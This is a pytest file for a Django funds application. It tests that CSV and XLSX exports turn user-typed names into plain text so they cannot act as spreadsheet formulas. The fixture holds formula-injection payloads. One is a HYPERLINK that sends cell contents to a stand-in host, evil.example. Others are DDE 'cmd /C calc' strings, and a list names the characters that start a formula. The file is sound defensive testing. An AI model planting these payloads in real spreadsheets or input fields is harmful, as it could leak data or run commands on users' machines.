"""Names typed by officials never become formulas in the CSV and XLSX exports (CSV injection)."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest
from django.test import Client
from django.urls import reverse

from wijkwerk.funds import services
from wijkwerk.funds.models import Fund, Scheme
from wijkwerk.initiatives.models import Initiative

from ..cast import Cast
from ..initiatives.factories import InitiativeFactory

pytestmark = pytest.mark.django_db

FUND_NAME = '=HYPERLINK("https://evil.example/?"&A1,"Klik")'
SCHEME_NAME = "+cmd|' /C calc'!A0"
MUNICIPALITY_NAME = "@SUM(1+1)*cmd|' /C calc'!A0"
AREA_NAME = "-2+3+cmd|' /C calc'!A0"
# What spreadsheets read as the start of a formula.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def hostile(cast: Cast, fund: Fund, initiative: Initiative) -> None:
    fund.name = FUND_NAME
    fund.save(update_fields=["name"])
    Scheme.objects.filter(pk=fund.scheme_id).update(name=SCHEME_NAME)
    cast.municipality.name = MUNICIPALITY_NAME
    cast.municipality.save(update_fields=["name"])
    cast.district.name = AREA_NAME
    cast.district.save(update_fields=["name"])
    initiative = InitiativeFactory(area=cast.district)
    services.commit(
        actor=cast.broker,
        fund=fund,
        initiative=initiative,
        amount_cents=10_000,
        reason="Toegekend",
    )


def client_for(user: object) -> Client:
    client = Client()
    client.force_login(user)  # type: ignore[arg-type]
    return client


def test_csv_export_writes_names_as_text(
    hostile: None, cast: Cast, fund: Fund, initiative: Initiative
) -> None:
    response = client_for(cast.admin).get(reverse("funds:export_csv"))
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    cells = [cell for row in rows[1:] for cell in row]
    assert not [cell for cell in cells if cell[:1] in FORMULA_STARTS], cells
    values = dict(zip(rows[0], rows[1], strict=True))
    # The name is kept, behind the apostrophe spreadsheets read as "this is text".
    assert values["Fonds"] == "'" + FUND_NAME
    assert values["Regeling"] == "'" + SCHEME_NAME
    assert values["Gemeente"] == "'" + MUNICIPALITY_NAME
    # Amounts (also negative ones) stay numbers.
    assert values["Bedrag"] == "7000,00"


def test_xlsx_export_writes_names_as_text_cells(
    hostile: None, cast: Cast, fund: Fund, initiative: Initiative
) -> None:
    response = client_for(cast.admin).get(reverse("funds:export_xlsx"))
    workbook = openpyxl.load_workbook(io.BytesIO(response.content))
    formulas = [
        (sheet.title, cell.coordinate, cell.value)
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]
    assert not formulas
    overview, per_area = workbook.worksheets
    # The names are there exactly as typed, stored as text and shown as text.
    assert overview["A2"].value == FUND_NAME
    assert overview["A2"].data_type == "s"
    assert overview["A2"].quotePrefix
    assert overview["C2"].value == MUNICIPALITY_NAME
    assert overview["D2"].value == SCHEME_NAME
    areas = [row[2] for row in per_area.iter_rows(min_row=2, values_only=True)]
    assert AREA_NAME in areas
    assert all(value == FUND_NAME for value in [r[0].value for r in per_area.iter_rows(min_row=2)])


@pytest.mark.parametrize(
    "value",
    ["=1+1", "+1+1", "-2+3", "@A1", "\t=1+1", "\r=1+1", " =1+1", "\n=1", "\uff1d1+1", "-", "+"],
)
def test_formula_starts_are_neutralised(value: str) -> None:
    from wijkwerk.core.spreadsheet import csv_row, csv_text, neutralise_formulas

    assert csv_text(value) == "'" + value
    assert csv_row([value, 12, -3]) == ["'" + value, 12, -3]
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    assert sheet is not None
    sheet.append([value])
    neutralise_formulas(workbook)
    output = io.BytesIO()
    workbook.save(output)
    cell = openpyxl.load_workbook(output).worksheets[0]["A1"]
    assert cell.data_type == "s"
    assert cell.value == value.replace("\r", "\n")  # XML keeps no bare carriage return
    assert cell.quotePrefix


@pytest.mark.parametrize(
    "value", ["Dorst", "Bewonersinitiatieven 2026", "'s-Hertogenbosch", "", "-100,00", "+31", "7.5"]
)
def test_plain_text_and_numbers_are_unchanged(value: str) -> None:
    from wijkwerk.core.spreadsheet import csv_text

    assert csv_text(value) == value
